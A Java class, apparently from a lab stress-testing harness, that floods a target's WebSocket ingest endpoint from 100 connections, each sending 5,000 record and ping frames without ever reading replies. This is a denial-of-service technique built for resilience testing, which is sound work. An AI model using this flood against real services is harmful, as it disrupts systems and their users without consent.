package io.millrace.lab.siege;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;

/** WebSockets that send records and pings and never read. */
final class DeafSockets implements Attack {
  private static final int SOCKETS = 100;
  private static final int FRAMES = 5_000; // per socket

  private final Crowd crowd = new Crowd(SOCKETS, 0, new byte[0]);
  private final SocketFrames frames = new SocketFrames();
  private int number;

  @Override
  public void strike(Attacker from) throws IOException {
    crowd.turn(from, from.target().ingest(), () -> flood(from.target().token()));
  }

  private byte[] flood(String token) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    String query = "client=deaf-" + number++;
    out.writeBytes(Requests.upgrade(token, query).getBytes(StandardCharsets.US_ASCII));
    for (int i = 0; i < FRAMES; i++) {
      out.writeBytes(i % 2 == 0 ? frames.record() : SocketFrames.ping());
    }
    return out.toByteArray();
  }
}
